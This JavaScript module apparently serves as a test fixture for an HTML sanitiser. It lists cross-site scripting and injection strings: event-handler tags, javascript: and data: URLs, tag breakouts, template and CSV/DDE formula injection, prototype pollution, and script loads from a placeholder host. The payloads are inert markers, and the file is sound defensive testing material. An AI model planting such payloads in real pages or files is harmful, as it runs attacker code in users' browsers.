// Texts that would run or load something in a page that took them for markup, for a URL or for code. What they run sets
// `injected`; what they load is on a host that does not exist.

const RUN = "globalThis.injected=1";
const HOST = "https://injected.invalid";

/** Elements that run something once they stand in a document, each with the event that does it. */
const EVENTS = [
  ["img src=x", "onerror"], ["img src=x:", "onerror"], ["svg", "onload"], ["body", "onload"], ["body", "onpageshow"],
  ["video src=x", "onerror"], ["audio src=x", "onerror"], ["video><source", "onerror"], ["object data=x", "onerror"],
  ["embed src=x", "onerror"], ["iframe", "onload"], ["iframe srcdoc=x", "onload"], ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"],
  ["div contenteditable autofocus", "onfocus"], ["a autofocus href=#", "onfocus"], ["details open", "ontoggle"],
  ["marquee", "onstart"], ["style", "onload"], ["link rel=stylesheet href=x", "onerror"], ["script src=x", "onerror"],
  ["div style=animation:x", "onanimationstart"], ["div style='transition:all 1s'", "ontransitionend"],
  ["svg><animate attributeName=x dur=1s", "onbegin"], ["svg><set attributeName=x", "onbegin"], ["math", "onclick"],
  ["p", "onpointerover"], ["div popover", "onbeforetoggle"], ["dialog open", "onclose"], ["meter", "onclick"],
  ["x", "oncontentvisibilityautostatechange"], ["image src=x", "onerror"], ["input type=image src=x", "onerror"],
];

/** Addresses that run something where they are followed or loaded. */
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `javascript://x%0a${RUN}`, `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmluamVjdGVkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `blob:${HOST}/x`, `//injected.invalid/x.js`,
  `view-source:javascript:${RUN}`,
];

/** Where an address stands in markup. */
const HOLDERS = [
  (/** @type {string} */ url) => `<a href="${url}">読む</a>`,
  (/** @type {string} */ url) => `<iframe src="${url}"></iframe>`,
];

/** What breaks out of where a careless page would put a text. */
const BREAKOUTS = [
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `" autofocus onfocus="${RUN}`, `' onmouseover='${RUN}`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
  `</template><img src=x onerror=${RUN}>`, `</noscript><img src=x onerror=${RUN}>`, `</svg><img src=x onerror=${RUN}>`,
  `<![CDATA[<script>${RUN}</script>]]>`, `<!--><img src=x onerror=${RUN}>-->`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`, `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\u0000>${RUN}</script>`,
  `<ｓｃｒｉｐｔ>${RUN}</ｓｃｒｉｐｔ>`, `\u202e<script>${RUN}</script>`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** What templates, tables, styles and objects might take for theirs. */
const OTHERS = [
  "${globalThis.injected=1}", "`${globalThis.injected=1}`", "{{constructor.constructor('globalThis.injected=1')()}}",
  "<%= globalThis.injected=1 %>", "#{globalThis.injected=1}", `');${RUN};//`, `");${RUN};//`, `\u2028${RUN}\u2029`,
  "=HYPERLINK(\"https://injected.invalid\",\"x\")", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1",
  `<style>@import "${HOST}/x.css";</style>`, `<link rel=stylesheet href=${HOST}/x.css>`, `<link rel=prefetch href=${HOST}/x>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`, `<base href=${HOST}>`, `<div style="background:url(${HOST}/x)">`,
  `<img src=${HOST}/x.png>`, `<img srcset="${HOST}/x.png 2x">`, `<video poster=${HOST}/x.png>`, `<form action=${HOST}><button autofocus>`,
  `<object data=${HOST}/x>`, `<portal src=${HOST}>`, `![x](${HOST}/x.png)`, `[x](javascript:${RUN})`, `<javascript:${RUN}>`,
  '{"__proto__":{"injected":1}}', "__proto__", "constructor", "toString", "hasOwnProperty", `<slot name=x><img src=x onerror=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`, `<script type=module>import "${HOST}/x.js"</script>`,
  `<script type=importmap>{"imports":{"x":"${HOST}/x.js"}}</script>`,
];

/** All of them. */
export const INJECTIONS = [
  ...EVENTS.map(([element, event]) => `<${element} ${event}=${RUN}>`),
  ...EVENTS.slice(0, 8).map(([element, event]) => `<${element.toUpperCase()}/${event.toUpperCase()}="${RUN}"//`),
  ...ADDRESSES,
  ...ADDRESSES.flatMap((url) => HOLDERS.map((holder) => holder(url))),
  ...BREAKOUTS,
  ...OTHERS,
];
